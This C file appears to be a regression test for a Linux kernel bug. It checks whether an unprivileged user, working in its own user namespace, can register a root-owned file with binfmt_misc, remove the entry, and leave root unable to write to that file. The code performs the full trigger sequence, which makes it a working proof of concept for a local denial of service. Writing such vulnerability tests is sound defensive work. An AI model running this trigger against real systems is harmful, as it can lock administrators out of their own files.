// Can root still write to a file after an unprivileged user registered it with binfmt_misc and took the entry away again?
// Needs the module binfmt_misc, /proc and /tmp. Exit 1: no (vulnerable), 0: yes (fixed), 2: could not be tried.
// Uses a fresh file each time: the fix does not repair files that are stuck already.

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { USER = 1000 };

static void need(int ok, const char *what)
{
	if (ok)
		return;
	perror(what);
	_exit(2);
}

static void write_text(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	need(fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text), path);
	close(fd);
}

// Makes `path` a root-owned program that everyone may execute and only root may write.
static void make_program(char *path)
{
	int from = open("/proc/self/exe", O_RDONLY), to = mkstemp(path);

	need(from >= 0 && to >= 0, path);
	while (sendfile(to, from, NULL, 1 << 20) > 0)
		;
	need(fchmod(to, 0755) == 0, path);
	close(from);
	close(to);
}

// What the unprivileged user does, in a user namespace of its own: register the program, remove the entry.
static void register_and_remove(const char *path)
{
	char directory[] = "/tmp/binfmt.XXXXXX", file[64], rule[96];

	need(setgid(USER) == 0 && setuid(USER) == 0, "become uid 1000");
	// A changed uid makes /proc/self root's; without this the id maps cannot be written.
	need(prctl(PR_SET_DUMPABLE, 1) == 0, "PR_SET_DUMPABLE");
	need(unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0, "unshare");
	write_text("/proc/self/setgroups", "deny");
	write_text("/proc/self/uid_map", "0 1000 1");
	write_text("/proc/self/gid_map", "0 1000 1");
	need(mkdtemp(directory) && mount("none", directory, "binfmt_misc", 0, NULL) == 0, "mount binfmt_misc");
	snprintf(rule, sizeof(rule), ":entry:M::lpl-magic::%s:F", path);
	snprintf(file, sizeof(file), "%s/register", directory);
	write_text(file, rule);
	snprintf(file, sizeof(file), "%s/entry", directory);
	write_text(file, "-1");
	_exit(0);
}

int main(void)
{
	char path[] = "/tmp/program.XXXXXX";
	int status, fd;

	make_program(path);
	if (fork() == 0)
		register_and_remove(path);
	wait(&status);
	if (status != 0)
		return 2;
	fd = open(path, O_WRONLY);
	printf("root opens %s for writing: %s -> %s\n", path, fd < 0 ? strerror(errno) : "ok", fd < 0 ? "VULNERABLE" : "FIXED");
	unlink(path);
	return fd < 0;
}
